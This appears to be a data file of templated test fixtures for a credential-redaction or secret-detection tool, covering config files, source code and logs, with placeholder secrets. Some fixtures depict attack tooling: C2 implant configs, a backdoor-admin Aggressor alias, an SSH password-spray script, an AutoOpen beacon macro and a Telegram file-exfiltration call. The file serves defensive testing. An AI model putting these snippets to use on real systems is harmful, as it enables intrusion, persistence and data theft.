T(_G, "cifs-credentials-file", "# /root/.smbcred\nusername=«user»\npassword=«pwx»\ndomain=«dom»", "«pwx»", "/root/.smbcred")
T(_G, "fstab-cifs-inline-password", "//«host».«fqdn»/scans  /mnt/scans  cifs  username=«svc»,password=«pwu»,vers=3.0,uid=1000  0 0", "«pwu»", "/mnt/scans")
T(_G, "s3cfg-secret-key", "[default]\naccess_key = «akid»\nsecret_key = «awssk»\nhost_base = s3.«webdom»\nuse_https = True", "«awssk»", "host_base = s3.«webdom»")
T(_G, "kubeconfig-user-token", "users:\n- name: «word»-admin\n  user:\n    token: «jwt»\ncontexts:\n- context: {cluster: «slug»-prod, user: «word»-admin}", "«jwt»", "name: «word»-admin")
T(_G, "pypirc-password", "[distutils]\nindex-servers = internal\n\n[internal]\nrepository = https://pypi.«webdom»/\nusername = «user»\npassword = «pwx»", "«pwx»", "repository = https://pypi.«webdom»/")
T(_G, "composer-auth-json-github-oauth", "{\n    \"github-oauth\": {\n        \"github.com\": \"gho_«an36»\"\n    }\n}", "gho_«an36»", "\"github-oauth\"")
T(_G, "cargo-credentials-toml", "[registry]\ntoken = \"cio«an32»\"\n\n[registries.«slug»]\ntoken = \"Bearer «an40»\"", "cio«an32»", "[registries.«slug»]")
T(_G, "supervisord-inet-http-password", "[inet_http_server]\nport=*:9001\nusername=«user»\npassword=«pwx»", "«pwx»", "[inet_http_server]")
T(_G, "haproxy-stats-auth", "listen stats\n    bind *:8404\n    stats enable\n    stats uri /stats\n    stats auth «user»:«pwx»", "«pwx»", "stats uri /stats")
T(_G, "postfix-sasl-passwd", "[smtp.«webdom»]:587    «email»:«pwx»", "«pwx»", "[smtp.«webdom»]:587")
T(_G, "msmtprc-password-line", "account «slug»\nhost smtp.«webdom»\nport 587\nfrom «email»\nuser «email»\npassword «pwx»\ntls on", "«pwx»", "host smtp.«webdom»")
T(_G, "filezilla-recentservers-base64-pass", "<Server>\n  <Host>«ip»</Host>\n  <Port>21</Port>\n  <User>«user»</User>\n  <Pass encoding=\"base64\">«fzpass»</Pass>\n</Server>", "«fzpass»", "<Host>«ip»</Host>", pre=lambda c: c.update(fzpass=_b64e(c["pwx"])))
T(_G, "winscp-ini-obfuscated-password", "[Sessions\\«user»@«host»]\nHostName=«ip»\nUserName=«user»\nPassword=A35C«HEX60»", "A35C«HEX60»", "[Sessions\\«user»@«host»]")
T(_G, "mremoteng-confcons-password", "<Node Name=\"«host»\" Type=\"Connection\" Username=\"«user»\" Domain=\"«dom»\" Password=\"«bs64»\" Hostname=\"«ip»\" Protocol=\"RDP\" />", "«bs64»", "Protocol=\"RDP\"")
T(_G, "cisco-type7-password", "username «user» privilege 15 password 7 «HEX20»\nenable secret 9 $9$«an14»$«an43»\nline vty 0 4\n login local", "«HEX20»", "privilege 15")
T(_G, "cisco-snmp-community-rw", "snmp-server community «pwu» RW 99\nsnmp-server location «client» DC1\nsnmp-server contact noc@«webdom»", "«pwu»", "snmp-server location «client» DC1")
T(_G, "fortigate-set-password-enc", "config system admin\n    edit \"«user»\"\n        set accprofile \"super_admin\"\n        set password ENC SH2«bs60»=\n    next\nend", "SH2«bs60»=", "set accprofile \"super_admin\"")
T(_G, "asterisk-sip-conf-secret", "[«dig4»]\ntype=friend\nhost=dynamic\nsecret=«pwx»\ncontext=internal", "«pwx»", "type=friend")
T(_G, "freeradius-clients-conf-secret", "client «host» {\n    ipaddr = «ip»\n    secret = «pwu»\n    shortname = «host»\n}", "«pwu»", "ipaddr = «ip»")
T(_G, "keepalived-auth-pass", "vrrp_instance VI_1 {\n    state MASTER\n    authentication {\n        auth_type PASS\n        auth_pass «an8»\n    }\n}", "«an8»", "auth_type PASS")
T(_G, "sssd-conf-ldap-authtok", "[domain/«fqdn»]\nldap_uri = ldaps://ldap01.«fqdn»\nldap_default_bind_dn = cn=«svc»,ou=svc,dc=«slug»\nldap_default_authtok = «pwx»", "«pwx»", "[domain/«fqdn»]")
T(_G, "jupyter-config-token", "c.ServerApp.ip = '0.0.0.0'\nc.ServerApp.token = '«hex48»'\nc.ServerApp.open_browser = False", "«hex48»", "c.ServerApp.ip = '0.0.0.0'")
T(_G, "ultravnc-ini-passwd-hex", "[ultravnc]\npasswd=«HEX18»\npasswd2=«HEX18_2»\n[admin]\nUseRegistry=0", "«HEX18»", "[ultravnc]")

# ======================================================================
# group: source-code  (source excerpts the agent read or wrote)
# ======================================================================
_G = "source-code"
T(_G, "python-requests-auth-tuple", "resp = requests.get(\n    f\"https://{HOST}/api/v2/assets\",\n    auth=(\"«user»\", \"«pwx»\"),\n    timeout=15,\n)", "«pwx»", "/api/v2/assets")
T(_G, "python-psycopg2-connect-kwargs", "conn = psycopg2.connect(host=\"«host».«fqdn»\", dbname=\"«db»\",\n                        user=\"«user»\", password=\"«pwx»\", sslmode=\"prefer\")", "«pwx»", "dbname=\"«db»\"")
T(_G, "python-module-constant-api-key", "# shodan_sweep.py\nimport shodan\n\nSHODAN_API_KEY = \"«an32»\"\napi = shodan.Shodan(SHODAN_API_KEY)", "«an32»", "import shodan")
T(_G, "python-boto3-client-explicit-keys", "s3 = boto3.client(\n    \"s3\",\n    aws_access_key_id=\"«akid»\",\n    aws_secret_access_key=\"«awssk»\",\n    region_name=\"us-west-2\",\n)", "«awssk»", "region_name=\"us-west-2\"")
T(_G, "python-paramiko-connect-password", "ssh = paramiko.SSHClient()\nssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())\nssh.connect(\"«ip»\", username=\"«user»\", password=\"«pwx»\", timeout=5)", "«pwx»", "paramiko.AutoAddPolicy()")
T(_G, "pwntools-sendline-password-bytes", "io = remote(\"«ip»\", «port»)\nio.recvuntil(b\"Password: \")\nio.sendline(b\"«pwx»\")\nio.interactive()", "«pwx»", "io.recvuntil(b\"Password: \")")
T(_G, "impacket-smbconnection-login", "conn = SMBConnection(target, target, sess_port=445)\nconn.login(\"«user»\", \"«pwx»\", domain=\"«fqdn»\")\nfor share in conn.listShares():", "«pwx»", "SMBConnection(target, target, sess_port=445)")
T(_G, "python-ldap3-connection-password", "server = Server(\"ldaps://«host».«fqdn»\", get_info=ALL)\nconn = Connection(server, user=\"«dom»\\\\«svc»\", password=\"«pwx»\", authentication=NTLM, auto_bind=True)", "«pwx»", "ldaps://«host».«fqdn»")
T(_G, "python-smtplib-login", "with smtplib.SMTP(\"smtp.«webdom»\", 587) as s:\n    s.starttls()\n    s.login(\"«email»\", \"«pwx»\")\n    s.send_message(msg)", "«pwx»", "smtp.«webdom»")
T(_G, "python-pyjwt-encode-hmac-secret", "token = jwt.encode({\"sub\": uid, \"role\": \"admin\"}, \"«pwr»\", algorithm=\"HS256\")", "«pwr»", "algorithm=\"HS256\"")
T(_G, "flask-app-secret-key", "app = Flask(__name__)\napp.secret_key = \"«hex48»\"\napp.config[\"SESSION_COOKIE_SECURE\"] = True", "«hex48»", "app = Flask(__name__)")
T(_G, "django-settings-secret-key", "# settings.py\nDEBUG = False\nSECRET_KEY = 'django-insecure-«djk»'\nALLOWED_HOSTS = ['«webdom»']", "django-insecure-«djk»", "ALLOWED_HOSTS = ['«webdom»']", pre=lambda c: c.update(djk=_s(_LOWAN + "!@#%^*(-_=+)", 50)))
T(_G, "node-pg-client-config-object", "const client = new Client({\n  host: '«ip»',\n  database: '«db»',\n  user: '«user»',\n  password: '«pwx»',\n  port: 5432,\n});", "«pwx»", "database: '«db»'")
T(_G, "js-fetch-authorization-header", "const res = await fetch(`${BASE}/v1/scan`, {\n  method: 'POST',\n  headers: { 'Authorization': 'Bearer «bu40»', 'Content-Type': 'application/json' },\n  body: JSON.stringify(payload),\n});", "«bu40»", "${BASE}/v1/scan")
T(_G, "node-mongoose-connect-uri", "mongoose.connect('mongodb://«user»:«pwu»@«ip»:27017/«db»?authSource=admin');", "«pwu»", "«ip»:27017/«db»")
T(_G, "typescript-config-apikey-field", "export const config = {\n  env: 'prod',\n  virustotal: { apiKey: '«hex64»', rateLimit: 4 },\n};", "«hex64»", "virustotal:")
T(_G, "go-sql-open-dsn", "db, err := sql.Open(\"postgres\", \"host=«ip» user=«user» password=«pwx» dbname=«db» sslmode=disable\")\nif err != nil {\n\tlog.Fatal(err)\n}", "«pwx»", "dbname=«db»")
T(_G, "go-const-token", "const (\n\tbaseURL   = \"https://api.«webdom»\"\n\tapiToken  = \"«bu43»\"\n\tuserAgent = \"recon/1.3\"\n)", "«bu43»", "https://api.«webdom»")
T(_G, "go-setbasicauth", "req, _ := http.NewRequest(\"GET\", target+\"/manager/status\", nil)\nreq.SetBasicAuth(\"«user»\", \"«pwx»\")", "«pwx»", "/manager/status")
T(_G, "java-drivermanager-getconnection", "Connection c = DriverManager.getConnection(\n    \"jdbc:oracle:thin:@«host»:1521/«db»\", \"«user»\", \"«pwx»\");", "«pwx»", "jdbc:oracle:thin:@«host»:1521/«db»")
T(_G, "java-static-final-password", "public class LegacyAuth {\n    private static final String ADMIN_USER = \"«user»\";\n    private static final String ADMIN_PASS = \"«pwx»\";", "«pwx»", "public class LegacyAuth")
T(_G, "csharp-networkcredential", "var cred = new NetworkCredential(\"«user»\", \"«pwx»\", \"«dom»\");\nvar handler = new HttpClientHandler { Credentials = cred };", "«pwx»", "new HttpClientHandler")
T(_G, "csharp-sqlconnection-string-literal", "using var conn = new SqlConnection(\"Data Source=«host»;Initial Catalog=«db»;User ID=«svc»;Password=«pwx»\");", "«pwx»", "Initial Catalog=«db»")
T(_G, "powershell-pscredential-script", "$User = '«dom»\\«svc»'\n$Pass = ConvertTo-SecureString -String '«pwx»' -AsPlainText -Force\n$Cred = [System.Management.Automation.PSCredential]::new($User, $Pass)\nInvoke-Command -ComputerName $targets -Credential $Cred -ScriptBlock { hostname }", "«pwx»", "Invoke-Command -ComputerName $targets")
T(_G, "powershell-invoke-restmethod-headers", "$h = @{ 'X-ApiKeys' = 'accessKey=«hex64»; secretKey=«hex64_2»' }\nInvoke-RestMethod -Uri https://nessus.«fqdn»:8834/scans -Headers $h", "«hex64_2»", "https://nessus.«fqdn»:8834/scans")
T(_G, "bash-script-variable-pass", "#!/usr/bin/env bash\nset -euo pipefail\nDB_HOST=«ip»\nDB_PASS=\"«pwx»\"\nmysqldump -h \"$DB_HOST\" -u backup -p\"$DB_PASS\" --all-databases | gzip > /backup/all.sql.gz", "«pwx»", "mysqldump -h \"$DB_HOST\"")
T(_G, "ruby-net-ssh-start", "Net::SSH.start('«ip»', '«user»', password: '«pwx»', non_interactive: true) do |ssh|\n  puts ssh.exec!('uname -a')\nend", "«pwx»", "Net::SSH.start('«ip»'")
T(_G, "php-mysqli-connect", "<?php\n$link = mysqli_connect('localhost', '«user»', '«pwx»', '«db»');\nif (!$link) { die('db down'); }", "«pwx»", "mysqli_connect('localhost'")
T(_G, "php-config-array-password", "return [\n    'db' => [\n        'dsn' => 'mysql:host=«ip»;dbname=«db»',\n        'username' => '«user»',\n        'password' => '«pwx»',\n    ],\n];", "«pwx»", "'dsn' => 'mysql:host=«ip»;dbname=«db»'")
T(_G, "rust-const-str-token", "const API_TOKEN: &str = \"«an40»\";\nconst API_BASE: &str = \"https://intel.«webdom»/v3\";", "«an40»", "https://intel.«webdom»/v3")
T(_G, "c-implant-hardcoded-xor-key", "/* stager.c */\nstatic const char *C2_HOST = \"cdn-«word».«webdom»\";\nstatic const unsigned char AES_KEY[] = \"«an32»\";\nstatic const int SLEEP_MS = 45000;", "«an32»", "static const int SLEEP_MS = 45000;")
T(_G, "csharp-implant-base64-key", "internal static class Config {\n    public static string Url = \"https://«eip»/api/v2/«word»\";\n    public static string Key = \"«bs43»=\";\n    public static int Jitter = 20;\n}", "«bs43»=", "public static int Jitter = 20;")
T(_G, "nim-implant-const-psk", "const\n  c2Url = \"https://«eip»:«port»/updates\"\n  psk = \"«hex64»\"\n  sleepSecs = 30", "«hex64»", "sleepSecs = 30")
T(_G, "python-c2-client-operator-token-header", "HEADERS = {\"X-Operator-Token\": \"«hex40»\", \"User-Agent\": \"Mozilla/5.0\"}\nr = requests.post(f\"https://{TEAMSERVER}/tasks\", json=task, headers=HEADERS, verify=False)", "«hex40»", "https://{TEAMSERVER}/tasks")
T(_G, "aggressor-cna-net-user-add", "alias addbackdoor {\n    bshell($1, \"net user «word»svc «pwx» /add\");\n    bshell($1, \"net localgroup administrators «word»svc /add\");\n}", "«pwx»", "alias addbackdoor")
T(_G, "msf-resource-script-set-password", "# spray.rc\nuse auxiliary/scanner/ssh/ssh_login\nset RHOSTS file:ssh_hosts.txt\nset USERNAME «user»\nset PASSWORD «pwx»\nset STOP_ON_SUCCESS true\nrun", "«pwx»", "auxiliary/scanner/ssh/ssh_login")
T(_G, "burp-extension-jython-api-key", "class BurpExtender(IBurpExtender, IHttpListener):\n    CENSYS_SECRET = \"«an32»\"\n    CENSYS_ID = \"«uuid»\"", "«an32»", "class BurpExtender(IBurpExtender, IHttpListener):")
T(_G, "nuclei-template-hardcoded-creds", "http:\n  - raw:\n      - |\n        POST /login HTTP/1.1\n        Host: {{Hostname}}\n\n        user=«user»&pass=«pwu»", "«pwu»", "Host: {{Hostname}}")
T(_G, "sql-create-user-identified-by", "CREATE USER '«user»'@'%' IDENTIFIED BY '«pwx»';\nGRANT ALL PRIVILEGES ON «db».* TO '«user»'@'%';", "«pwx»", "GRANT ALL PRIVILEGES ON «db».*")
T(_G, "sql-alter-role-password", "ALTER ROLE «user» WITH LOGIN PASSWORD '«pwx»' VALID UNTIL '2026-01-01';", "«pwx»", "VALID UNTIL '2026-01-01'")
T(_G, "sql-insert-api-key-row", "INSERT INTO integrations (name, api_key, enabled) VALUES\n  ('pagerduty', '«hex32»', true),\n  ('slack', NULL, false);", "«hex32»", "INSERT INTO integrations")
T(_G, "tsql-create-login-with-password", "CREATE LOGIN [«svc»] WITH PASSWORD = N'«pwx»', CHECK_POLICY = OFF;\nALTER SERVER ROLE sysadmin ADD MEMBER [«svc»];", "«pwx»", "ALTER SERVER ROLE sysadmin")
T(_G, "dockerfile-env-api-key", "FROM python:3.12-slim\nWORKDIR /app\nENV HIBP_API_KEY=«hex32»\nCOPY . .\nCMD [\"python\", \"breachcheck.py\"]", "«hex32»", "FROM python:3.12-slim")
T(_G, "makefile-deploy-target-password", "deploy:\n\tsshpass -p '«pwx»' rsync -az dist/ «user»@«ip»:/var/www/app/", "«pwx»", "rsync -az dist/")
T(_G, "jupyter-cell-os-environ-key", "In [3]: import os\n        os.environ[\"OPENAI_API_KEY\"] = \"sk-proj-«bu48»T3BlbkFJ«bu48_2»\"\n        client = OpenAI()", "sk-proj-«bu48»T3BlbkFJ«bu48_2»", "client = OpenAI()")
T(_G, "terraform-resource-rds-password", "resource \"aws_db_instance\" \"legacy\" {\n  engine            = \"mysql\"\n  username          = \"admin\"\n  password          = \"«pwx»\"\n  skip_final_snapshot = true\n}", "«pwx»", "resource \"aws_db_instance\" \"legacy\"")
T(_G, "ansible-task-inline-password", "- name: create service account\n  ansible.windows.win_user:\n    name: «svc»\n    password: «pwx»\n    groups: [Administrators]", "«pwx»", "ansible.windows.win_user")
T(_G, "nse-lua-default-creds-table", "local creds = {\n  {username = \"admin\", password = \"admin\"},\n  {username = \"«user»\", password = \"«pwx»\"},\n}", "«pwx»", "local creds = {")
T(_G, "android-buildconfig-field", "buildConfigField(\"String\", \"MAPS_KEY\", \"\\\"AIza«bu35»\\\"\")\nbuildConfigField(\"boolean\", \"LOG_HTTP\", \"false\")", "AIza«bu35»", "buildConfigField(\"boolean\", \"LOG_HTTP\", \"false\")")
T(_G, "swift-let-api-secret", "struct Keys {\n    static let clientID = \"«uuid»\"\n    static let clientSecret = \"«bu40»\"\n}", "«bu40»", "struct Keys")
T(_G, "python-unittest-login-password", "def test_admin_export(self):\n    self.client.login(username=\"«user»\", password=\"«pwx»\")\n    r = self.client.get(\"/admin/export/\")", "«pwx»", "/admin/export/")
T(_G, "hardhat-config-private-key-array", "networks: {\n  sepolia: {\n    url: `https://rpc.«webdom»/${ALCHEMY_ID}`,\n    accounts: [\"«evmkey»\"],\n  },\n},", "«evmkey»", "sepolia:")
T(_G, "ethers-wallet-private-key", "const wallet = new ethers.Wallet('«evmkey»', provider);\nconsole.log(await wallet.getAddress());", "«evmkey»", "wallet.getAddress()")
T(_G, "python-bip39-mnemonic-literal", "# PoC for report «ticket»: wallet recovered from debug endpoint\nMNEMONIC = \"«mnemonic»\"\nacct = Account.from_mnemonic(MNEMONIC)", "«mnemonic»", "Account.from_mnemonic(MNEMONIC)")
T(_G, "burp-copy-as-python-requests", "cookies = {\n    'PHPSESSID': '«low26»',\n    'remember_me': '«hex40»',\n}\nheaders = {'Host': 'shop.«webdom»'}\nresponse = requests.get('https://shop.«webdom»/account', cookies=cookies, headers=headers)", "«hex40»", "https://shop.«webdom»/account")
T(_G, "python-telegram-exfil-bot-token", "BOT = \"«dig10»:AA«bu33»\"\nCHAT = -100«dig10_2»\nrequests.post(f\"https://api.telegram.org/bot{BOT}/sendDocument\", data={\"chat_id\": CHAT}, files=f)", "«dig10»:AA«bu33»", "/sendDocument")
T(_G, "go-struct-literal-credentials", "cfg := Config{\n\tListener: \"0.0.0.0:«port»\",\n\tOperator: \"«person»\",\n\tPassword: \"«pwx»\",\n}", "«pwx»", "Operator: \"«person»\"")
T(_G, "yaml-in-code-fixture-secret", "FIXTURE = \"\"\"\nintegration:\n  name: slack\n  webhook: https://hooks.slack.com/services/T«up9»/B«up10»/«an24»\n\"\"\"", "«an24»", "integration:")
T(_G, "kotlin-okhttp-credentials-basic", "val request = Request.Builder()\n    .url(\"https://«host».«fqdn»/rest/api/2/search\")\n    .header(\"Authorization\", Credentials.basic(\"«user»\", \"«pwx»\"))\n    .build()", "«pwx»", "/rest/api/2/search")
T(_G, "vba-macro-phish-callback-key", "Private Const CB_URL As String = \"https://«word»-cdn.«webdom»/c\"\nPrivate Const CB_KEY As String = \"«an28»\"\nSub AutoOpen()\n    Beacon CB_URL, CB_KEY\nEnd Sub", "«an28»", "Sub AutoOpen()")
T(_G, "python-dict-literal-split-secret", "CREDS = {\n    \"tenant\": \"«uuid»\",\n    \"client_id\": \"«uuid_2»\",\n    \"client_secret\": (\"«an3»8Q~«bu17»\"\n                      \"«bu17_2»\"),\n}", "«an3»8Q~«bu17»\"\n                      \"«bu17_2»", "\"tenant\": \"«uuid»\"")
T(_G, "perl-dbi-connect", "my $dbh = DBI->connect(\"DBI:Pg:dbname=«db»;host=«ip»\", \"«user»\", \"«pwx»\", {RaiseError => 1});", "«pwx»", "DBI:Pg:dbname=«db»")

# ======================================================================
# group: stack-trace-or-log
# ======================================================================
_G = "stack-trace-or-log"
T(_G, "python-traceback-psycopg2-dsn", "Traceback (most recent call last):\n  File \"/opt/app/worker.py\", line 41, in <module>\n    conn = psycopg2.connect(\"postgresql://«user»:«pwu»@«ip»:5432/«db»\")\npsycopg2.OperationalError: connection to server at \"«ip»\", port 5432 failed: timeout expired", "«pwu»", "psycopg2.OperationalError")
T(_G, "sqlalchemy-error-url-echo", "sqlalchemy.exc.OperationalError: (pymysql.err.OperationalError) (2003, \"Can't connect to MySQL server on '«host»'\")\n[engine url: mysql+pymysql://«user»:«pwu»@«host»:3306/«db»]", "«pwu»", "sqlalchemy.exc.OperationalError")
T(_G, "java-exception-jdbc-url-password-param", "org.postgresql.util.PSQLException: FATAL: no pg_hba.conf entry for host \"«ip»\"\n\tat org.postgresql.core.v3.ConnectionFactoryImpl.doAuthentication(ConnectionFactoryImpl.java:693)\nCaused by: url=jdbc:postgresql://«host»:5432/«db»?user=«user»&password=«pwu»&ssl=true", "«pwu»", "org.postgresql.util.PSQLException")
T(_G, "node-error-config-object-dump", "Error: connect ECONNREFUSED «ip»:3306\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1555:16)\n  config: { host: '«ip»', user: '«user»', password: '«pwx»', database: '«db»' }", "«pwx»", "ECONNREFUSED «ip»:3306")
T(_G, "nginx-access-log-token-query", "«ip» - - [14/Mar/2025:«time» +0000] \"GET /api/export?format=csv&access_token=«an40» HTTP/1.1\" 200 48213 \"-\" \"python-requests/2.31.0\"", "«an40»", "GET /api/export?format=csv")
T(_G, "apache-access-log-api-key-param", "«ip» - - [02/Apr/2025:«time» +0200] \"POST /v1/scan?api_key=«hex32»&target=«webdom» HTTP/1.1\" 202 118", "«hex32»", "POST /v1/scan")
T(_G, "requests-debug-send-basic", "send: b'GET /rest/api/latest/myself HTTP/1.1\\r\\nHost: jira.«webdom»\\r\\nAuthorization: Basic «basic»\\r\\nAccept: */*\\r\\n\\r\\n'\nreply: 'HTTP/1.1 200 OK\\r\\n'", "«basic»", "Host: jira.«webdom»", pre=lambda c: c.update(basic=_b64e(c["email"] + ":" + c["pwx"])))
T(_G, "curl-verbose-bearer-request", "> GET /api/v4/projects?membership=true HTTP/2\n> Host: gitlab.«webdom»\n> user-agent: curl/8.5.0\n> private-token: glpat-«bu20»\n>\n< HTTP/2 200", "glpat-«bu20»", "Host: gitlab.«webdom»")
T(_G, "rails-log-unfiltered-parameters", "Started POST \"/users/sign_in\" for «ip» at 2025-03-14 «time» +0000\nProcessing by Devise::SessionsController#create as HTML\n  Parameters: {\"authenticity_token\"=>\"[FILTERED]\", \"user\"=>{\"email\"=>\"«email»\", \"password\"=>\"«pwx»\"}}", "«pwx»", "Devise::SessionsController#create")
T(_G, "sudo-log-mysql-inline-pass", "Mar 14 «time» «host» sudo:   «user» : TTY=pts/1 ; PWD=/home/«user» ; USER=root ; COMMAND=/usr/bin/mysql -uroot -p«pwu» «db»", "«pwu»", "TTY=pts/1")
T(_G, "auditd-execve-args", "type=EXECVE msg=audit(1710400000.«dig3»:«dig5»): argc=5 a0=\"sshpass\" a1=\"-p\" a2=\"«pwu»\" a3=\"ssh\" a4=\"«user»@«ip»\"", "«pwu»", "type=EXECVE")
T(_G, "windows-4688-process-commandline", "EventID: 4688\nNew Process Name: C:\\Windows\\System32\\net.exe\nProcess Command Line: net use Z: \\\\«host»\\finance «pwx» /user:«dom»\\«user»\nCreator Process Name: C:\\Windows\\System32\\cmd.exe", "«pwx»", "EventID: 4688")
T(_G, "sysmon-event1-commandline", "Sysmon EventID 1 ProcessCreate\nImage: C:\\Tools\\PsExec64.exe\nCommandLine: PsExec64.exe \\\\«ip» -u «dom»\\«svc» -p «pwx» cmd\nUser: «dom»\\«user»", "«pwx»", "Sysmon EventID 1 ProcessCreate")
T(_G, "powershell-4104-scriptblock", "EventID 4104 Creating Scriptblock text (1 of 1):\n$sec = ConvertTo-SecureString \"«pwx»\" -AsPlainText -Force\nNew-LocalUser -Name \"«word»\" -Password $sec\nScriptBlock ID: «uuid»", "«pwx»", "EventID 4104")
T(_G, "k8s-pod-log-env-dump", "«ts» INFO  boot: effective configuration\n«ts» INFO    DATABASE_URL=postgres://«user»:«pwu»@«db»-db.«word».svc:5432/«db»\n«ts» INFO    LOG_LEVEL=info", "«pwu»", "effective configuration")
T(_G, "jenkins-initial-admin-password-log", "*************************************************************\nJenkins initial setup is required. An admin user has been created and a password generated.\nPlease use the following password to proceed to installation:\n\n«hex32»\n\nThis may also be found at: /var/jenkins_home/secrets/initialAdminPassword", "«hex32»", "/var/jenkins_home/secrets/initialAdminPassword")
T(_G, "gophish-startup-admin-password-log", "time=\"«date»T«time»Z\" level=info msg=\"Please login with the username admin and the password «hex16»\"\ntime=\"«date»T«time»Z\" level=info msg=\"Starting admin server at https://0.0.0.0:3333\"", "«hex16»", "Starting admin server at https://0.0.0.0:3333")
T(_G, "elasticsearch-first-start-elastic-password", "✅ Elasticsearch security features have been automatically configured!\nℹ️  Password for the elastic user (reset with `bin/elasticsearch-reset-password -u elastic`):\n  «bu20»", "«bu20»", "bin/elasticsearch-reset-password -u elastic")
T(_G, "msf-login-successful-log", "[+] «ip»:22 - Success: '«user»:«pwx»' 'uid=1000(«user») gid=1000(«user»)'\n[*] SSH session 1 opened («eip»:41233 -> «ip»:22)", "«pwx»", "SSH session 1 opened")
T(_G, "evilginx-log-password-captured", "[«time»] [+++] [«num»] Username: [«email»]\n[«time»] [+++] [«num»] Password: [«pwx»]\n[«time»] [+++] [«num»] all authorization tokens intercepted!", "«pwx»", "all authorization tokens intercepted!")
T(_G, "java-stacktrace-url-userinfo", "java.net.UnknownHostException: artifacts.«webdom»: Name or service not known\n\tat java.base/java.net.InetAddress.getAllByName0(InetAddress.java:1534)\n\tat com.acme.Fetch.run(Fetch.java:88) [url=https://«user»:«pwu»@artifacts.«webdom»/libs/]", "«pwu»", "java.net.UnknownHostException")
T(_G, "go-panic-connection-string", "panic: dial tcp «ip»:6379: connect: connection refused (redis://default:«pwu»@«ip»:6379/0)\n\ngoroutine 1 [running]:\nmain.mustRedis(...)\n\t/src/cmd/worker/main.go:57", "«pwu»", "goroutine 1 [running]:")
T(_G, "dotnet-exception-connection-string", "System.Data.SqlClient.SqlException (0x80131904): Login failed for user '«svc»'.\n   ConnectionString: Server=«host»;Database=«db»;User Id=«svc»;Password=«pwx»;\n   at System.Data.SqlClient.SqlInternalConnectionTds..ctor()", "«pwx»", "Login failed for user '«svc»'")
T(_G, "terraform-debug-log-header", "«ts» [DEBUG] provider.terraform-provider-cloudflare: HTTP Request Sent: GET /client/v4/zones HTTP/1.1\nAuthorization: Bearer «bu40»\nUser-Agent: terraform-provider-cloudflare/4.20", "«bu40»", "/client/v4/zones")
T(_G, "aws-cli-debug-security-token-header", "2025-03-14 «time»,112 - MainThread - botocore.endpoint - DEBUG - Sending http request: <AWSPreparedRequest stream_output=False, method=POST, url=https://sts.amazonaws.com/, headers={'X-Amz-Security-Token': b'«sts»', 'X-Amz-Date': b'20250314T101500Z'}>", "«sts»", "botocore.endpoint")
T(_G, "npm-err-registry-token-in-url", "npm ERR! code E401\nnpm ERR! 401 Unauthorized - GET https://npm.«webdom»/@«slug»%2fui - authentication token not provided\nnpm ERR! tried https://«user»:npm_«an36»@npm.«webdom»/", "npm_«an36»", "npm ERR! code E401")
T(_G, "pip-log-index-url-creds", "Looking in indexes: https://«user»:«pwu»@pypi.«webdom»/simple\nERROR: Could not find a version that satisfies the requirement «word»-sdk==2.4.0", "«pwu»", "Could not find a version that satisfies the requirement")
T(_G, "ansible-vvv-winrm-password", "<«ip»> ESTABLISH WINRM CONNECTION FOR USER: «svc» on PORT 5986 TO «ip»\n<«ip»> WINRM CONNECT: transport=ntlm endpoint=https://«ip»:5986/wsman ansible_password=«pwx»", "«pwx»", "ESTABLISH WINRM CONNECTION FOR USER: «svc»")
T(_G, "mitmproxy-flow-log-authorization", "«ip»:51234: POST https://api.«webdom»/graphql HTTP/2.0\n    authorization: Bearer «jwt»\n    content-type: application/json\n << 200 OK 1.2k", "«jwt»", "POST https://api.«webdom»/graphql")
T(_G, "squid-access-log-ftp-credentials", "1710400000.«dig3»    «dig3» «ip» TCP_MISS/200 5120 GET ftp://«user»:«pwu»@ftp.«webdom»/pub/ - HIER_DIRECT/«ip» -", "«pwu»", "TCP_MISS/200")
T(_G, "dovecot-auth-debug-password", "«date» «time» auth: Debug: client in: AUTH\t1\tPLAIN\tservice=imap\tresp=<hidden>\n«date» «time» auth-worker: Debug: sql(«email»,«ip»): query: SELECT password FROM users WHERE email='«email»' AND password='«pwx»'", "«pwx»", "auth-worker: Debug")
T(_G, "mysql-general-log-identified-by", "2025-03-14T«time».123456Z\t   42 Query\tALTER USER 'app'@'%' IDENTIFIED BY '«pwx»'\n2025-03-14T«time».223456Z\t   42 Query\tFLUSH PRIVILEGES", "«pwx»", "FLUSH PRIVILEGES")
T(_G, "postgres-log-alter-user-statement", "«date» «time».481 UTC [2231] postgres@«db» LOG:  statement: ALTER USER «user» WITH PASSWORD '«pwx»';", "«pwx»", "LOG:  statement: ALTER USER «user»")
T(_G, "redis-monitor-auth-command", "1710400000.«dig6» [0 «ip»:53120] \"AUTH\" \"«pwx»\"\n1710400000.«dig6_2» [0 «ip»:53120] \"KEYS\" \"session:*\"", "«pwx»", "\"KEYS\" \"session:*\"")
T(_G, "android-logcat-bearer-token", "03-14 «time».512  4121  4188 D OkHttp  : Authorization: Bearer «bu64»\n03-14 «time».513  4121  4188 D OkHttp  : --> END GET", "«bu64»", "--> END GET")
T(_G, "electron-app-log-refresh-token", "[«ts»] [info] auth: token refreshed {\"expires_in\":3600,\"refresh_token\":\"«bu86»\",\"scope\":\"offline_access\"}", "«bu86»", "auth: token refreshed")
T(_G, "oauth-callback-fragment-access-token", "«ip» - - [14/Mar/2025:«time»] \"GET /callback#access_token=«bu54»&token_type=bearer&expires_in=3599 HTTP/1.1\" 200 612", "«bu54»", "GET /callback")
T(_G, "structured-json-log-authorization", "{\"level\":\"debug\",\"ts\":\"«ts»\",\"msg\":\"outbound request\",\"url\":\"https://api.«webdom»/v1/jobs\",\"headers\":{\"authorization\":\"Token «hex40»\",\"accept\":\"application/json\"}}", "«hex40»", "\"msg\":\"outbound request\"")
T(_G, "celery-broker-url-banner", " -------------- celery@«host» v5.3.6 (emerald-rush)\n- ** ---------- .> transport:   amqp://«user»:«pwu»@«ip»:5672//\n- ** ---------- .> results:     redis://«ip»:6379/1", "«pwu»", "celery@«host»")
T(_G, "sentry-breadcrumb-cookie", "breadcrumbs: [{\"category\":\"http\",\"data\":{\"method\":\"GET\",\"url\":\"/billing\",\"headers\":{\"Cookie\":\"sid=«an40»; lang=en\"}}}]", "«an40»", "\"url\":\"/billing\"")
